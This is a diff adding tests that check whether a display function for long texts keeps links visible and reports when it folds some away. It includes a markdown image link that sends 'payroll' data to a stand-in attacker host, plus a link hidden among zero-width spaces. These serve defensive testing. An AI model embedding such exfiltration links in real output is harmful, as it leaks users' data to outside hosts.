@@ -163,6 +163,33 @@ test('a short call is shown whole, however many arguments it has', () => {
   expect(shownOn(undefined, detailOf(args, { deciding })).join('\n')).toContain('"to":"ann"');
 });
 
+describe('of a long text that is asked about for its links', () => {
+  const words = 'It goes on about nothing in particular for quite a while. '.repeat(40);
+  const link = '![x](https://evil.example/collect?d=payroll)';
+  const shown = (text: string, more: Partial<Detail> = {}): string =>
+    shownOn(undefined, { ...detailOf({}, { evidence: [], ...more }), args: text })
+      .join('')
+      .replaceAll(/ {10}\| /g, '');
+
+  test('the link stands open, in an answer as in an argument', () => {
+    expect(shown(words + link + words, { tool: '' })).toContain(link);
+    const [from, to] = [words.length, words.length + 9];
+    for (const at of [from - 40, from, to, 60]) {
+      const text = words.slice(0, at) + link + words.slice(at);
+      expect(shown(JSON.stringify({ text: `${text}\nSo:\n${words}` }))).toContain(link);
+    }
+  });
+
+  test('it says where it shows not all of them', () => {
+    const many = Array.from({ length: 30 }, (_, n) => `${words} https://shop.example/${n} `);
+    expect(shown(many.join(''), { tool: '' })).toContain('folded, more links than these)');
+    const hidden = `${words}ww${'\u200B'.repeat(500)}w.evil ${words}`;
+    expect(shown(hidden, { tool: '' })).toContain('more links than these)');
+    expect(shown(words, { tool: '' })).not.toContain('links');
+    expect(shown(words + link + words, { tool: '' })).not.toContain('more links');
+  });
+});
+
 test.each([400, 401])('a text of %i characters', (length) => {
   expect(longText('a'.repeat(length), []).includes('folded')).toBe(length > 400);
 });
